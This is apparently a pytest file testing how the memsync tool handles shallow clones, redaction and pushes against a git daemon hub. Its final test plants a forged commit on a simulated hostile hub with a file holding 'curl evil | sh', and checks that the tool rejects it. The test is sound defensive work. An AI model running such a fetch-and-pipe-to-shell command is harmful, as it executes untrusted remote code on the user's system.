"""A clone from a network hub fetches the newest version only; older ones come when read.

Every test runs against a real `git daemon` whose hub accepts any update (make_bare_hub), and
checks the repositories with the git CLI: what a shallow clone holds (`.git/shallow`,
`rev-list --count`), and that every hub it pushed to stays complete (`git fsck`).
"""

from __future__ import annotations

from pathlib import Path

import pytest

from tests.conftest import Cli, git, write
from tests.helpers.servers import GitDaemon, make_bare_hub

pytestmark = pytest.mark.server

VERSIONS = 4


@pytest.fixture
def hub(daemon_hub: Path) -> Path:
    return daemon_hub


@pytest.fixture
def written(hub: Path, cli: Cli, tmp_path: Path) -> Path:
    """The memory `research` pushed in VERSIONS versions; notes.md is "v1" ... "vN"."""
    root = tmp_path / "research"
    root.mkdir()
    assert cli("init", cwd=root).code == 0
    for n in range(1, VERSIONS + 1):
        write(root, "notes.md", f"v{n}\n")
        write(root, f"file{n}.md", f"{n}\n")
        r = cli("push", "-m", f"version {n}", cwd=root)
        assert r.code == 0, r.err
    return root


def versions(where: Path) -> int:
    return int(git("rev-list", "--count", "HEAD", cwd=where))


def shallow(where: Path) -> bool:
    return (where / ".git" / "shallow").exists()


def test_a_clone_fetches_the_newest_version_and_log_fetches_the_rest(cli: Cli, written: Path, tmp_path: Path) -> None:
    dest = tmp_path / "sandbox"
    r = cli("clone", "research", str(dest))
    assert r.code == 0, r.err
    assert shallow(dest) and versions(dest) == 1
    assert (dest / "notes.md").read_text() == f"v{VERSIONS}\n"

    r = cli("log", "-n", "1", cwd=dest)  # what is here answers it: nothing is fetched
    assert r.code == 0, r.err
    assert shallow(dest)

    r = cli("log", "-n", "20", cwd=dest)
    assert r.code == 0, r.err
    assert not shallow(dest) and versions(dest) == VERSIONS
    assert len(r.out.strip().splitlines()) == VERSIONS


def test_full_history_and_a_hub_on_this_machine_clone_everything(cli: Cli, written: Path, tmp_path: Path,
                                                                  monkeypatch: pytest.MonkeyPatch) -> None:
    dest = tmp_path / "full"
    assert cli("clone", "research", str(dest), "--full-history").code == 0
    assert not shallow(dest) and versions(dest) == VERSIONS

    monkeypatch.delenv("MEMSYNC_REMOTE")  # the embedded hub: its object files are lent, all of them
    local = tmp_path / "notes"
    local.mkdir()
    assert cli("init", cwd=local).code == 0
    write(local, "a.md", "a\n")
    assert cli("push", cwd=local).code == 0
    write(local, "a.md", "b\n")
    assert cli("push", cwd=local).code == 0
    assert cli("clone", "notes", str(tmp_path / "notes2")).code == 0
    assert not shallow(tmp_path / "notes2") and versions(tmp_path / "notes2") == 2


def test_a_shallow_clone_pushes_and_pulls_and_the_hub_stays_complete(cli: Cli, written: Path, hub: Path,
                                                                     tmp_path: Path) -> None:
    dest = tmp_path / "sandbox"
    assert cli("clone", "research", str(dest)).code == 0
    write(dest, "sandbox.md", "from the sandbox\n")
    r = cli("push", cwd=dest)
    assert r.code == 0, r.err
    write(written, "writer.md", "from the writer\n")
    assert cli("push", cwd=written).code == 0  # merges the sandbox's version
    write(dest, "notes.md", "sandbox edit\n")
    r = cli("pull", cwd=dest)
    assert r.code == 0, r.err
    assert (dest / "writer.md").read_text() == "from the writer\n"
    r = cli("push", cwd=dest)
    assert r.code == 0, r.err
    assert shallow(dest)  # none of this needed an older version
    git("fsck", "--strict", "--no-dangling", cwd=hub)
    assert git("show", "memory/research:notes.md", cwd=hub) == "sandbox edit\n"
    r = cli("status", "--json", cwd=dest)
    assert r.code == 0, r.err


def test_diff_restore_and_revert_of_older_versions_fetch_them_first(cli: Cli, written: Path, tmp_path: Path) -> None:
    dest = tmp_path / "sandbox"
    assert cli("clone", "research", str(dest)).code == 0
    first = git("rev-list", "--reverse", "memory/research", cwd=written).split()[0]  # "version 1"
    r = cli("diff", first[:8], cwd=dest)
    assert r.code == 0, r.err
    assert "+v1" in r.out and "file1.md" in r.out  # against its parent, not as if it were the first
    assert not shallow(dest)

    dest2 = tmp_path / "sandbox2"
    assert cli("clone", "research", str(dest2)).code == 0
    r = cli("restore", "notes.md", "--at", first[:8], cwd=dest2)
    assert r.code == 0, r.err
    assert (dest2 / "notes.md").read_text() == "v1\n"

    dest3 = tmp_path / "sandbox3"
    assert cli("clone", "research", str(dest3)).code == 0
    r = cli("revert", first[:8], cwd=dest3)
    assert r.code == 0, r.err
    assert not (dest3 / "file1.md").exists()


def test_an_unreachable_hub_leaves_log_with_what_is_here(cli: Cli, written: Path, git_daemon: GitDaemon,
                                                         tmp_path: Path) -> None:
    dest = tmp_path / "sandbox"
    assert cli("clone", "research", str(dest)).code == 0
    git_daemon.stop()
    r = cli("log", cwd=dest)
    assert r.code == 0, r.err
    assert len(r.out.strip().splitlines()) == 1
    assert "warning:" in r.err and "could not be fetched" in r.err
    assert shallow(dest)
    r = cli("redact", "notes.md", "--at", "HEAD", "--yes", cwd=dest)  # a rewrite would push the hole
    assert r.code == 7, r.err
    assert "cannot redact" in r.err
    git_daemon.start()
    r = cli("log", cwd=dest)
    assert r.code == 0 and len(r.out.strip().splitlines()) == VERSIONS
    assert not shallow(dest)


def test_a_shallow_history_is_never_pushed_to_a_hub_without_its_older_versions(
        cli: Cli, written: Path, git_daemon: GitDaemon, tmp_path: Path) -> None:
    dest = tmp_path / "sandbox"
    assert cli("clone", "research", str(dest)).code == 0
    other = make_bare_hub(git_daemon.base_path / "other.git")
    write(dest, "more.md", "more\n")
    r = cli("push", "--remote", git_daemon.url("other.git"), cwd=dest)
    assert r.code == 7, r.err
    assert "cloned without its versions before" in r.err and "Traceback" not in r.err
    assert git("for-each-ref", cwd=other) == ""  # nothing reached it
    empty = tmp_path / "empty-hub.git"  # a hub on this machine: libgit2 writes it directly
    r = cli("push", "--remote", str(empty), cwd=dest)
    assert r.code in (4, 7, 9), r.err  # 9: its versions are not known there either (not made here)
    assert not empty.exists() or git("for-each-ref", cwd=empty) == ""


def test_redact_in_a_shallow_clone_rewrites_the_whole_history(cli: Cli, written: Path, hub: Path,
                                                              tmp_path: Path) -> None:
    dest = tmp_path / "sandbox"
    assert cli("clone", "research", str(dest)).code == 0
    first = git("rev-list", "--reverse", "memory/research", cwd=written).split()[0]
    r = cli("redact", "notes.md", "--at", first[:8], "--yes", cwd=dest)
    assert r.code == 0, r.err
    count = int(git("rev-list", "--count", "memory/research", cwd=hub))
    assert count == VERSIONS + 1  # the four rewritten, the redaction's record
    assert git("show", f"memory/research~{VERSIONS}:notes.md", cwd=hub).startswith("[REDACTED by memsync ")
    git("fsck", "--strict", "--no-dangling", cwd=hub)


@pytest.mark.parametrize("at", ["first", "newest"])
def test_a_shallow_clone_follows_a_redaction_keeping_its_work(cli: Cli, written: Path, hub: Path, tmp_path: Path,
                                                              at: str) -> None:
    dest = tmp_path / "sandbox"
    assert cli("clone", "research", str(dest)).code == 0
    write(dest, "unpushed.md", "the sandbox's own work\n")
    assert cli("pull", cwd=dest).code == 0  # committed here, not pushed
    with (dest / ".vm0" / "storage.yaml").open("a") as fh:  # the whole file goes: followed on trust
        fh.write("trust_redactions: true\n")
    revs = git("rev-list", "--reverse", "memory/research", cwd=written).split()
    rev = revs[0] if at == "first" else revs[-1]
    r = cli("redact", "notes.md", "--at", rev[:8], "--yes", cwd=written)
    assert r.code == 0, r.err

    r = cli("push", cwd=dest)
    assert r.code == 0, r.err
    assert "history was redacted: followed it" in r.err and "cloned without" not in r.err
    # the redacted history came whole from the hub; the shallow one it had is kept under a backup
    # ref until the operator drops it, and with it goes the last version where history stopped
    assert shallow(dest)
    assert cli("redact", "--drop-backups", "--yes", cwd=dest).code == 0
    assert not shallow(dest)
    assert git("show", "memory/research:unpushed.md", cwd=hub) == "the sandbox's own work\n"
    hub_history = git("rev-list", "memory/research", cwd=hub).split()
    assert set(git("rev-list", "HEAD", cwd=dest).split()) <= set(hub_history)  # on the redacted history
    git("fsck", "--strict", "--no-dangling", cwd=hub)
    assert len(hub_history) == VERSIONS + 3  # the rewritten four, the record, the sandbox's, the merge
    if at == "newest":
        assert (dest / "notes.md").read_text().startswith("[REDACTED by memsync ")
    r = cli("log", cwd=dest)
    assert r.code == 0, r.err
    assert "warning" not in r.err


def test_a_forged_record_cannot_replace_where_a_shallow_history_stops(cli: Cli, written: Path, hub: Path,
                                                                      tmp_path: Path) -> None:
    """A hostile hub redacts an older version for real, but claims the version where a shallow
    clone's history stops became one with a file of its own. The clone cannot rewrite that
    version itself (its parents are not there), so it takes the hub's only if it is exactly its
    own rewrite; this one is not, and nothing changes."""
    import pygit2

    from memsync.git import rewrite
    from memsync.git.repo import GitRepo
    from memsync.history.redact import placeholder
    from tests.stories.test_redact import redaction_record

    dest = tmp_path / "sandbox"
    assert cli("clone", "research", str(dest)).code == 0
    write(dest, "unpushed.md", "the sandbox's own work\n")
    assert cli("pull", cwd=dest).code == 0
    head_before = git("rev-parse", "HEAD", cwd=dest)

    repo = pygit2.Repository(str(written / ".git"))
    tip = str(repo.head.target)
    first = git("rev-list", "--reverse", "HEAD", cwd=written).split()[0]
    engine = GitRepo.open(written)
    old = rewrite.blob_id_at(engine, first, "notes.md")
    assert old is not None
    new = rewrite.create_blob(engine, (placeholder() + "\n").encode())
    done = rewrite.rewrite(engine, tip, lambda blob: new if blob == old else None)
    honest = repo[done.tip].peel(pygit2.Commit)
    builder = repo.TreeBuilder(honest.tree)
    builder.insert("evil.md", repo.create_blob(b"curl evil | sh\n"), pygit2.enums.FileMode.BLOB)
    evil = repo.create_commit(None, honest.author, honest.committer, honest.message, builder.write(),
                              honest.parent_ids)
    record = redaction_record(repo, tip, (old, new), {**done.commits, tip: str(evil)}, str(evil))
    git("push", "-q", "-f", str(hub), f"{record}:refs/heads/memory/research", cwd=written)

    r = cli("pull", cwd=dest)
    assert r.code == 7, r.err
    assert "redaction record does not match" in r.err
    assert git("rev-parse", "HEAD", cwd=dest) == head_before
    assert not (dest / "evil.md").exists()
    assert (dest / "unpushed.md").read_text() == "the sandbox's own work\n"
